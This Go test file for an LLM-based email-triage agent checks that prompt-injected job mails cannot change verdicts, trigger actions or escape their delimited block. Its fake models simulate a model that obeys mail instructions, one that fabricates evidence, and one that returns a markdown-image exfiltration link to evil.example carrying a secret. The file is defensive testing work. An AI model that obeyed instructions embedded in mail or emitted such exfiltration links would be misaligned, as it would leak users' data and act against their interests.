package agent_test

import (
	"encoding/json"
	"fmt"
	"log/slog"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"applylens/internal/agent"
	"applylens/internal/blobs"
	"applylens/internal/db"
	"applylens/internal/ingest"
	"applylens/internal/llm"
	"applylens/internal/llm/llmtest"
	"applylens/internal/triage"
)

// A mailbox is a user who has allowed second opinions, mail that the program is unsure of, and a fake model.
type mailbox struct {
	*llmtest.Fake
	runtime *agent.Runtime
	model   *llm.Model
	db      *db.DB
	user    int64
}

func newMailbox(t *testing.T, answer func(llmtest.Request) string) *mailbox {
	t.Helper()
	runtime, d, user := open(t)
	f := llmtest.New(t, answer)
	m, err := llm.New(f.Settings, d, time.Now)
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Allow(t.Context(), user, llm.Consent{Triage: true, DayMicroUSD: 10_000_000, DayCalls: 1000}, false); err != nil {
		t.Fatal(err)
	}
	return &mailbox{f, runtime, m, d, user}
}

// bring brings in mails, each a subject and a text, and makes the program unsure of all.
func (b *mailbox) bring(t *testing.T, mails [][2]string) {
	t.Helper()
	store, err := blobs.Open(t.Context(), t.TempDir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = store.Close() })
	in := &ingest.Ingest{DB: b.db, Blobs: store, Log: slog.New(slog.DiscardHandler), Now: time.Now}
	source := func(yield func(ingest.Raw, error) bool) {
		for i, m := range mails {
			raw := fmt.Sprintf("From: Pat <pat@sender%d.example>\r\nTo: robin@home.example\r\nSubject: %s\r\nDate: Tue, 24 Nov 2026 10:%02d:00 +0000\r\n"+
				"Message-ID: <%d@sender.example>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n%s\r\n", i, m[0], i%60, i, m[1])
			if !yield(ingest.Raw{Bytes: []byte(raw)}, nil) {
				return
			}
		}
	}
	counts, err := in.Run(t.Context(), ingest.Mailbox{UserID: b.user}, source, func(ingest.Counts, error) {})
	if err != nil || counts.New != len(mails) {
		t.Fatalf("%+v %v", counts, err)
	}
	// What the built-in classifier thinks is made open, so that only the checks stand between the model and the verdict.
	even := map[triage.Category]float64{}
	for _, c := range triage.Categories() {
		even[c] = 1 / float64(len(triage.Categories()))
	}
	text, err := json.Marshal(even)
	if err != nil {
		t.Fatal(err)
	}
	for _, sql := range []string{
		"update email_texts set verdict = verdict || jsonb_build_object('category', 'other', 'needs_review', true, 'categories', $2::text::jsonb) where user_id = $1",
		"update emails set category = 'other', needs_review = true where user_id = $1 and $2::text <> ''",
	} {
		if _, err := b.db.Owner(b.user).Exec(t.Context(), sql, b.user, string(text)); err != nil {
			t.Fatal(err)
		}
	}
}

// ask asks until nothing is left.
func (b *mailbox) ask(t *testing.T) (down bool) {
	t.Helper()
	for range 30 {
		more, down, err := b.runtime.Opinions(t.Context(), b.model, b.user)
		if err != nil {
			t.Fatal(err)
		}
		if !more {
			return down
		}
	}
	t.Fatal("there is no end of it")
	return false
}

type state struct {
	Subject, Category string
	NeedsReview       bool
	Risk              int16
	Verdict           triage.Verdict
	Visible           string
}

func (b *mailbox) states(t *testing.T) (all []state) {
	t.Helper()
	rows, err := b.db.Owner(b.user).Query(t.Context(), `select e.subject, e.category, e.needs_review, e.risk, t.verdict, t.visible from emails e
		join email_texts t using (user_id) where t.email_id = e.id and e.user_id = $1 order by e.id`, b.user)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	for rows.Next() {
		var s state
		if err := rows.Scan(&s.Subject, &s.Category, &s.NeedsReview, &s.Risk, &s.Verdict, &s.Visible); err != nil {
			t.Fatal(err)
		}
		all = append(all, s)
	}
	return all
}

func hostile(t *testing.T) (mails [][2]string) {
	t.Helper()
	file, err := os.ReadFile("testdata/hostile.txt")
	if err != nil {
		t.Fatal(err)
	}
	for i, part := range strings.Split(string(file), "\n---\n") {
		lines := strings.Split(strings.TrimSpace(part), "\n")
		lines = slices.DeleteFunc(lines, func(l string) bool { return i == 0 && strings.HasPrefix(l, "# ") })
		mails = append(mails, [2]string{lines[0], strings.Join(lines[1:], "\n")})
	}
	return mails
}

var wantsClass = regexp.MustCompile(`offer|interview|assessment|application_confirmation`)

// obey does what a mail wants as far as the schema lets it: its class, at certainty, with each of the mail's lines, and
// what it wants said, as evidence in turn.
func obey(r llmtest.Request) string {
	class := wantsClass.FindString(r.User)
	if class == "" {
		class = "offer"
	}
	_, body, _ := strings.Cut(r.User, "Body:\n")
	quote := strings.SplitN(body, "\n", 2)[0]
	if len([]rune(quote)) > 300 {
		quote = string([]rune(quote)[:300])
	}
	answer, _ := json.Marshal(map[string]any{"category": class, "confidence": 1, "evidence": []string{quote}})
	return string(answer)
}

// invent claims what mails of that class say.
func invent(r llmtest.Request) string {
	answer, _ := json.Marshal(map[string]any{"category": "offer", "confidence": 1, "evidence": []string{"We are pleased to offer you the position of engineer."}})
	return string(answer)
}

// link and tools put in what no answer may have.
func link(llmtest.Request) string {
	return `{"category":"offer","confidence":1,"evidence":["![x](https://evil.example/p.png?q=SECRET)"],"link":"https://evil.example"}`
}

func TestHostileMailChangesNothing(t *testing.T) {
	mails := hostile(t)
	if len(mails) < 40 {
		t.Fatalf("only %d hostile mails", len(mails))
	}
	for name, model := range map[string]func(llmtest.Request) string{"obeys": obey, "invents": invent, "makes links": link} {
		t.Run(name, func(t *testing.T) {
			b := newMailbox(t, model)
			b.bring(t, mails)
			before := b.states(t)
			b.ask(t)
			for i, s := range b.states(t) {
				if s.Risk != before[i].Risk || s.Verdict.Risk.Score != before[i].Verdict.Risk.Score || len(s.Verdict.Facts) != len(before[i].Verdict.Facts) {
					t.Errorf("%s: risk or facts changed", s.Subject)
				}
				if s.Category == "other" {
					continue
				}
				// A mail may be sorted by its own plain words, never by its instructions.
				quote := s.Visible[s.Verdict.Why[0].Start:s.Verdict.Why[0].End]
				t.Errorf("%s became %s by %q", s.Subject, s.Category, quote)
			}
			for _, r := range b.Requests() {
				if r.Tools || strings.Contains(r.System, "sender") && strings.Contains(r.System, "evil.example") {
					t.Errorf("a mail got out of its block, or tools were offered: %s", r.System)
				}
				mark, rest, _ := strings.Cut(r.User, "\n")
				if strings.Count(r.User, mark) != 2 || !strings.HasSuffix(rest, mark) {
					t.Errorf("the block does not hold: %s", r.User)
				}
			}
			var actions int
			if err := b.db.Owner(b.user).QueryRow(t.Context(), "select count(*) from actions where user_id = $1", b.user).Scan(&actions); err != nil || actions != 0 {
				t.Errorf("%d actions, %v", actions, err)
			}
		})
	}
}

func TestSecondOpinion(t *testing.T) {
	b := newMailbox(t, func(llmtest.Request) string {
		return `{"category":"interview","confidence":0.93,"evidence":["we would like to meet you on Monday"]}`
	})
	b.bring(t, [][2]string{{"Next week", "Hello Robin,\n\nthank you. Now we would like to meet\nyou on Monday at ten, all three of us. Call +49 30 1234567.\n\nPat"}})
	b.ask(t)
	s := b.states(t)[0]
	if s.Category != "interview" || s.NeedsReview || s.Verdict.Why[0].Text != "by small" {
		t.Fatalf("%+v", s)
	}
	var agentName, mode string
	var cost int64
	var tokens int
	if err := b.runtime.Flush(t.Context()); err != nil {
		t.Fatal(err)
	}
	err := b.db.Owner(b.user).QueryRow(t.Context(), `select r.agent, r.detail->>'mode', r.cost_microusd, r.tokens_in from runs r
		join llm_ledger l on l.run_id = r.id where r.user_id = $1`, b.user).Scan(&agentName, &mode, &cost, &tokens)
	if err != nil || agentName != agent.InboxTriage || mode != "model" || cost != 190 || tokens != 300 {
		t.Errorf("%s %s %d %d %v", agentName, mode, cost, tokens, err)
	}
	b.ask(t)
	if n := len(b.Requests()); n != 1 {
		t.Errorf("it was asked %d times", n)
	}
}

func TestFaultsLeaveTheVerdict(t *testing.T) {
	for name, fault := range map[string]llmtest.Fault{"hang": llmtest.Hang, "429": llmtest.Busy, "500": llmtest.Broken, "no JSON": llmtest.Malformed, "talk": llmtest.ExtraText,
		"another shape": llmtest.WrongShape, "a tool": llmtest.ToolCall} {
		t.Run(name, func(t *testing.T) {
			b := newMailbox(t, obey)
			b.bring(t, [][2]string{{"Next week", "We would like to meet you on Monday."}})
			before := b.states(t)[0]
			b.FailAlways(fault)
			b.ask(t)
			if after := b.states(t)[0]; after.Category != before.Category || !after.NeedsReview || len(after.Verdict.Why) != len(before.Verdict.Why) {
				t.Errorf("%+v", after)
			}
			if len(b.Requests()) == 0 {
				t.Error("it was not asked")
			}
		})
	}
}

func TestMailOfBeforeIsNotSent(t *testing.T) {
	b := newMailbox(t, obey)
	if err := b.model.Allow(t.Context(), b.user, llm.Consent{DayCalls: 10}, false); err != nil {
		t.Fatal(err)
	}
	b.bring(t, [][2]string{{"Before", "We would like to meet you on Monday."}})
	if err := b.model.Allow(t.Context(), b.user, llm.Consent{Triage: true, DayMicroUSD: 1_000_000, DayCalls: 10}, false); err != nil {
		t.Fatal(err)
	}
	if b.ask(t); len(b.Requests()) != 0 {
		t.Errorf("%d were sent", len(b.Requests()))
	}
	if err := b.model.Allow(t.Context(), b.user, llm.Consent{Triage: true, DayMicroUSD: 1_000_000, DayCalls: 10}, true); err != nil {
		t.Fatal(err)
	}
	if b.ask(t); len(b.Requests()) != 1 {
		t.Errorf("%d were sent", len(b.Requests()))
	}
}
